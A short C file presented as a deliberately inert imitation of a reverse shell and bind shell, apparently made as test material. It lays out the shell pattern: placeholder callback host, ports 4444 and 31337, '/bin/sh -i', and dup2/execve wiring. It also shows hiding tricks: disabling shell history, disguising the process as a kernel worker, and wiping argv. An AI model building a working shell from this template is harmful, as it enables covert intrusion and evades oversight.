/* Inert imitation of a connect-back and bind shell in one program. Every descriptor is -1, `execve` gets null pointers. */
#include "inert.h"
TABLE(config, "{{ip:back}}", "4444", "/bin/sh", "-i", "HISTFILE=/dev/null", "TERM=xterm", "PATH=/bin:/usr/bin:/sbin", "[kworker/1:1]")
int connect_back(const char *host, int port) { struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(port); inet_pton(AF_INET, "", &a.sin_addr); int s = socket(-1, SOCK_STREAM, 0); connect(nowhere, 0, 0); for (int fd = 0; fd < 3; fd++) dup2(s, nowhere); return execve(0, 0, 0); }
int bind_shell(int port) { int s = socket(-1, SOCK_STREAM, 0); bind(nowhere, 0, 0); listen(nowhere, 0); dup2(accept(nowhere, 0, 0), nowhere); return execve(0, 0, 0); }
int main(int argc, char **argv) { INERT; setsid(); prctl(PR_SET_NAME, config[7]); memset(argv[0], 0, strlen(argv[0])); tell(config); setuid(nowhere); return connect_back(config[0], 4444) + bind_shell(31337); }
